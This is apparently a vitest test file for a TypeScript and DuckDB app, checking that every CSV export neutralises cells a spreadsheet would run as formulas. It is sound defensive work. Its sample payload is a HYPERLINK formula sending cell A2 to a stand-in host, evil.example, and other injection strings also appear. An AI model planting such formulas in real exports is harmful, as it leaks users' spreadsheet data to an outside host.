/**
 * Every CSV export neutralises the cells a spreadsheet would run as a formula (issue 17, item 4):
 * one writer (src/lib/server/csv.ts) for the exports written in TypeScript, and the same rule in
 * SQL for those DuckDB writes (the quarantined rows, the assignments file).
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readFileSync, rmSync } from 'node:fs';
import { csvCell, csvText, looksLikeFormula, sqlNeutralised } from '../../src/lib/server/csv.ts';
import { toCsv } from '../../src/lib/server/arrow.ts';
import { listTrail, recordTrail, trailCsv } from '../../src/lib/server/trail/trail.ts';
import { quarantineCsvFile } from '../../src/lib/server/data/batches.ts';
import { importFile } from '../../src/lib/server/ingest/index.ts';
import { accountRow, accountsHeader, csv, tempStore, type TempStore } from '../support/store.ts';
import { parseCsv } from '../support/csv.ts';

const EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")';
const SAMPLES = [EVIL, '@SUM(1+1)', '+1 555 0100', '-2+3', '\tcmd', '\rcmd', '-', '=', 'plain', '', '-50', '+3.5', '-1e3', '.5', '-0.25', '12', 'a=b'];

const cells = parseCsv;

/** the cells of a CSV that a spreadsheet would take for a formula */
const live = (text: string) => cells(text).flat().filter(looksLikeFormula);

describe('the one CSV writer', () => {
	test('texts that start like a formula get a leading apostrophe; plain numbers and other texts are left as they are', () => {
		expect(SAMPLES.map((s) => (looksLikeFormula(s) ? 'neutralised' : 'kept'))).toEqual([
			...Array(8).fill('neutralised'),
			...Array(9).fill('kept')
		]);
		expect(csvCell(EVIL)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`);
		expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
		expect(csvCell('-50')).toBe('-50');
		expect(csvCell(-50)).toBe('-50');
		expect(csvCell(null)).toBe('');
		expect(live(csvText(['a'], SAMPLES.map((s) => [s])))).toEqual([]);
		// the text survives: the cell is the value with one apostrophe before it
		expect(cells(csvText(['a'], [[EVIL]]))[1]).toEqual([`'${EVIL}`]);
	});

	test('the SQL rule (exports DuckDB writes) neutralises exactly the same cells', async () => {
		const t = await tempStore();
		try {
			const values = SAMPLES.map((s) => `(${s.replace(/'/g, "''").replace(/^/, "'")}')`).join(', ');
			const rows = await t.store.rows<{ v: string; out: string }>(`SELECT v, ${sqlNeutralised('v')} AS out FROM (VALUES ${values}) x(v)`);
			for (const r of rows) expect(r.out, JSON.stringify(r.v)).toBe(looksLikeFormula(r.v) ? `'${r.v}` : r.v);
			expect(rows).toHaveLength(SAMPLES.length);
		} finally {
			await t.close();
		}
	});
});

describe('the exports', () => {
	let t: TempStore;
	beforeAll(async () => {
		t = await tempStore();
	});
	afterAll(() => t.close());

	test('the trail: a user name typed at the sign-in page comes out as text', async () => {
		await recordTrail(t.store, { actor: EVIL, role: null, action: 'sign_in_failed', target: '@SUM(1+1)', details: { note: '+cmd' } });
		const text = trailCsv(await listTrail(t.store));
		expect(text).toContain(`'${EVIL.replace(/"/g, '""')}`);
		expect(live(text)).toEqual([]);
	});

	test('chart and breakdown data: agent and template values come out as text, numbers as numbers', () => {
		const text = toCsv({ agent: ['@SUM(1+1)', 'AG-1', '-cmd'], template: [EVIL, 'reminder', '=1'], change: [-0.5, 2, null] });
		expect(live(text)).toEqual([]);
		expect(cells(text)[1]).toEqual(["'@SUM(1+1)", `'${EVIL}`, '-0.5']);
	});

	test('quarantined rows: formula-like values neutralised, a negative number kept', async () => {
		const bad = accountRow('=A1+1', { segment: '@SUM(1+1)', risk_score: '-50' });
		const r = await importFile(t.store, { path: t.file('accounts.csv', csv([accountsHeader, accountRow('OK-1'), bad])), source: 'cli' });
		expect(r.rows_quarantined).toBe(1);
		const { path, dir } = await quarantineCsvFile(t.store, r.batch_id!);
		try {
			const text = readFileSync(path, 'utf8');
			const [header, row] = cells(text.replace(/\r?\n/g, '\r\n'));
			const at = (name: string) => row![header!.indexOf(name)];
			expect(at('account_id')).toBe("'=A1+1");
			expect(at('segment')).toBe("'@SUM(1+1)");
			expect(at('risk_score')).toBe('-50');
			expect(live(text.replace(/\r?\n/g, '\r\n'))).toEqual([]);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	});
});
